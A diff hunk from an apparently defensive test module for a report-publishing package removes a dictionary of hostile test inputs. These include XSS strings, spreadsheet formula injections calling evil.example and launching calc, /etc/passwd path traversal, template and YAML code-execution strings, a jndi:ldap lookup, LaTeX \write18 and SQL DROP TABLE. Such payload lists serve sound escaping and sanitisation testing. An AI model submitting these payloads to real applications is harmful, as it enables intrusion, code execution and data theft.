@@ -21,46 +21,6 @@ from analysis.publishing import build, model
 from analysis.publishing.blocks import Report
 from analysis.publishing.wording import Both
 
-ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>&b;'
-PAYLOADS = {
-    "script": "<script>alert(1)</script>",
-    "handler": '"><img src=x onerror=alert(1)>',
-    "attribute": "' onmouseover='alert(1)' x='",
-    "close": "</style></title></text><svg onload=alert(1)>",
-    "comment": "--><iframe src=//evil.example></iframe><!--",
-    "link": "javascript:alert(1)",
-    "data_link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-    "markdown": "[x](javascript:alert(1)) ![y](https://evil.example/z.png)",
-    "formula": '=HYPERLINK("http://evil.example/";"x")',
-    "formula_plus": "+cmd|' /C calc'!A0",
-    "formula_minus": "-2+3+cmd|' /C calc'!A0",
-    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "formula_wide": "＝1+41",
-    "formula_inside": 'x;=WEBSERVICE("http://evil.example/")',
-    "path": "../../../../etc/passwd",
-    "file": "file:///etc/passwd",
-    "share": "\\\\evil.example\\share\\x.dotm",
-    "template": "{{ 7 * 7 }}",
-    "statement": "{% include '/etc/passwd' %}",
-    "attribute_of": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
-    "format": "{title.__class__} {0} %s %n ${jndi:ldap://evil.example/a}",
-    "typst": '#read("/etc/passwd") #eval("1+1") $sum$ *b* @cite <label>',
-    "latex": "\\input{/etc/passwd} \\write18{id}",
-    "bidi": "\u202eevil\u2066 abc\u2069 \u200f",
-    "zero_width": "e\u200bv\u200ci\ufeffl\u00ad",
-    "controls": "a\x00b\x07c\x1bd\x7fe\x9bf",
-    "surrogate": "a\ud800b",
-    "noncharacter": "a\ufffeb\uffffc",
-    "emoji": "\U0001f469\u200d\U0001f4bb \U0001f3f4\U000e0067\U000e007f",
-    "entities": ENTITIES,
-    "cdata": "]]></w:t><w:instrText>INCLUDETEXT /etc/passwd</w:instrText><![CDATA[",
-    "yaml": "x: !!python/object/apply:os.system ['id'] # \"\\n- y: 'z",
-    "sql": "'; DROP TABLE councils; --",
-    "lines": "one\r\ntwo\u2028three\u2029four\tfive",
-    "long_word": "x" * 5_000,
-    "huge": "many words " * 9_100,  # 100 KB
-}
-
 NARRATIVE = """\
 ## summary
 
